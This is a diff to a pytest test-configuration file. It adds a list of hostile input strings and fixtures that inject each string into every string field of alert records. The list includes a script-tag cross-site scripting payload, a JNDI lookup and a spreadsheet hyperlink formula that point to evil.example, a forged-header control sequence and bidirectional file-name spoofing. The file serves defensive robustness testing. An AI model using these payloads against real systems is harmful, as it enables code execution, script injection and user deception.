@@ -46,3 +46,44 @@ def evidence_strategy():
 @pytest.fixture(scope="session")
 def alert_strategy():
     return of(Alert)
+
+
+HOSTILE = {
+    "markdown": "**bold** [click](http://evil.example/a) `x`",
+    "html": '<script>alert(1)</script><img src=x onerror="a()">',
+    "mention": "<at>Security Team</at>",
+    "bidi": "user\u202egpj.exe\u2066\u2069",
+    "zero width": "ad\u200bmin\ufeff\u2060",
+    "control": "a\x00b\x1b[2J\x07c\r\nSubject: forged",
+    "line separators": "one\u2028two\u2029three\x85four\x0bfive",
+    "tags": "a\U000e0041\U000e0042b",
+    "blank letters": "x\u3164\u115f\u2800y",
+    "zalgo": "a" + "\u0301" * 50,
+    "lone surrogate": "a\ud800b",
+    "formula": '=HYPERLINK("http://evil.example","open")',
+    "braces": "${jndi:ldap://evil.example/a} {0} %s %n",
+    "megabyte": "A" * 1_000_000,
+    "wide megabyte": "\U0001f480" * 300_000,
+    "escape megabyte": "\u202e" * 300_000,
+    "quotes": "\"'\\",
+}
+
+
+def place_everywhere(value, text: str):
+    """The same record with every string replaced, ids and enums left alone where they are not strings."""
+    if isinstance(value, msgspec.Struct):
+        changes = {f: place_everywhere(getattr(value, f), text) for f in value.__struct_fields__}
+        return type(value)(**changes)
+    if isinstance(value, tuple):
+        return tuple(place_everywhere(item, text) for item in value)
+    return text if type(value) is str else value
+
+
+@pytest.fixture(params=HOSTILE.values(), ids=HOSTILE.keys())
+def hostile(request) -> str:
+    return request.param
+
+
+@pytest.fixture(scope="session")
+def poisoned():
+    return place_everywhere
